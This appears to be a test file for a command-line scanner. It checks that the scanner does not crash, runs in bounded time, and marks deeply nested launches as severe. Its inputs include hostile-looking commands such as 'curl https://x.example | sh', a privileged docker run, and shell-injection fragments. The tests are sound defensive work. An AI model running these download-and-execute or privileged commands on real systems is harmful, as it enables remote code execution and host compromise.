import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

test('no words make it fail', () => {
  for (const line of [
    [''],
    ['sh', '-c'],
    ['sh', '-c', '$(((`"\'\\'],
    ['env'],
    ['docker', 'run'],
    ['npx'],
    Array(500).fill('env'),
    ['__proto__'],
    ['constructor', 'x'],
  ])
    expect(() => look(line)).not.toThrow();
});

const PIECES =
  "sh -c cmd /c env -S npx docker run -itv / : = \" $( ` ) | && ; > & \\ { } while do done <<E \nE\n ' $' @' curl eval node -e \u200b а @ 1.0.0 --".split(
    ' ',
  );
test('whatever the words are, reading them ends, and each finding is about text that is there', () => {
  fc.assert(
    fc.property(fc.array(fc.array(fc.constantFrom(...PIECES), { maxLength: 8 }), { minLength: 1 }), (parts) => {
      const line = parts.map((words) => words.join(words.length % 2 ? '' : ' '));
      const places = new Map(line.map((text, index) => [index === 0 ? 'command' : `args[${index - 1}]`, text]));
      for (const { where, span } of look(line).findings)
        expect(span.start + span.length).toBeLessThanOrEqual(places.get(where)?.length ?? -1);
    }),
  );
});

test.each([
  ['evaluations without a download', ['sh', '-c', 'iex '.repeat(50_000)]],
  ['downloads that nothing reads', ['sh', '-c', 'curl '.repeat(40_000)]],
  ['code that names downloads', ['node', '-e', 'iwr '.repeat(50_000)]],
  ['scripts in scripts', ['sh', '-c', '$('.repeat(100_000)]],
  ['subshells in subshells', ['sh', '-c', `${'('.repeat(50_000)}x${')'.repeat(50_000)}`]],
  ['commands of subshells in subshells', ['sh', '-c', '(x;'.repeat(30_000)]],
  ['groups in groups', ['sh', '-c', '{ x;'.repeat(30_000)]],
  ['groups in one command', ['sh', '-c', `${'{ '.repeat(50_000)}${'x;'.repeat(20_000)}`]],
  ['texts in texts that follow', ['sh', '-c', 'cat <<E\n'.repeat(20_000)]],
  ['texts that are announced and never come', ['sh', '-c', `cat ${'<<E '.repeat(40_000)}\n${'x\n'.repeat(20_000)}`]],
  ['variables that are filled', ['sh', '-c', 'read a b c; sh -c "$d";'.repeat(8000)]],
  ['brackets in a name', ['sh', '-c', `${'['.repeat(100_000)} ${'{,'.repeat(100_000)}`]],
  ['commands of one find', ['find', '/', ...Array(3000).fill(['-exec', 'true', ';']).flat()]],
  ['texts that env splits', ['sh', '-c', `env ${"-S '' ".repeat(12_000)}`]],
  ['shells in shells', ['sh', '-c', `${'sh -c "$('.repeat(12)}${'x '.repeat(3000)}${')"'.repeat(12)}`]],
])('%s take no longer than their length', (_, line) => {
  const began = performance.now();
  look(line);
  // Time that grew with the square of it would be ten seconds.
  expect(performance.now() - began).toBeLessThan(6000);
});

describe('what is nested too deeply to be followed is severe', () => {
  test.each([
    ['programs that start programs', [...Array(13).fill('env'), 'sh', '-c', 'curl https://x.example | sh']],
    ['a container behind them', [...Array(13).fill('nohup'), 'docker', 'run', '--privileged', 'mcp/time']],
    ['substitutions', ['sh', '-c', `${'$('.repeat(14)}curl https://x.example${')'.repeat(14)}`]],
    ['folders', ['sh', '-c', `${'cd a; '.repeat(14)}node s.js`]],
    ['commands', ['sh', '-c', './a; '.repeat(101)]],
    ['commands of the shell', ['sh', '-c', 'true; '.repeat(501)]],
    ['scripts in scripts', ['sh', '-c', `sh -c '${'x '.repeat(26_000)}'`]],
  ])('%s', (_, line) => expect(severe(line)).toContain('too-deep'));
});
